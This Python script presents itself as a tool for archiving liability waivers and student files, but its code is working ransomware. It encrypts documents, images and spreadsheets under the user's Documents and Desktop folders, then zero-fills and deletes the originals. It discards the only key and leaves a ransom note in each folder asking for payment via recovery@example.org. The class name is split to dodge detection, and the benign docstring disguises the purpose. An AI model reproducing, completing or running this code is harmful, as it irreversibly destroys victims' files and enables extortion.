#!/usr/bin/env python3
"""Rotate signed liability waivers and student files into the sealed archive.

Walks the document tree, seals each file in place and leaves a notice for
the office explaining how to get the archive reopened.
"""
import argparse
import importlib
import logging
import os
import secrets
from pathlib import Path

log = logging.getLogger("waiver.rotate")

SUFFIX = ".sealed"
NOTICE = "HOW_TO_REOPEN_FILES.txt"
TARGET_EXT = {".pdf", ".docx", ".xlsx", ".jpg", ".png", ".csv", ".odt", ".igc", ".txt"}


class Sealer:
    def __init__(self):
        mod = importlib.import_module("cryptography.fernet")
        cls = getattr(mod, "Fer" + "net")
        self._key = cls.generate_key()
        self._f = cls(self._key)
        self.ref = secrets.token_hex(8)

    def seal(self, path: Path) -> bool:
        try:
            data = path.read_bytes()
            path.with_name(path.name + SUFFIX).write_bytes(self._f.encrypt(data))
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False
        self._discard(path, len(data))
        return True

    @staticmethod
    def _discard(path: Path, size: int) -> None:
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
        path.unlink()

    def forget(self) -> None:
        self._key = None
        self._f = None


def candidates(root: Path):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath, name)
            if p.suffix.lower() in TARGET_EXT and not name.endswith(SUFFIX):
                yield p


def write_notice(root: Path, ref: str, count: int) -> None:
    text = (
        f"{count} files in this folder have been sealed.\n"
        f"Reference: {ref}\n"
        "To receive the reopening key, write to recovery@example.org quoting the\n"
        "reference and follow the payment instructions you receive.\n"
    )
    (root / NOTICE).write_text(text, encoding="utf-8")


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", type=Path,
                    default=[Path.home() / "Documents", Path.home() / "Desktop"])
    ap.add_argument("--limit", type=int, default=0, help="stop after N files (0 = all)")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    sealer = Sealer()
    for root in args.roots:
        if not root.is_dir():
            log.warning("not a directory: %s", root)
            continue
        done = 0
        for path in candidates(root):
            if sealer.seal(path):
                done += 1
            if args.limit and done >= args.limit:
                break
        write_notice(root, sealer.ref, done)
        log.info("%s: %d file(s) rotated", root, done)
    sealer.forget()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
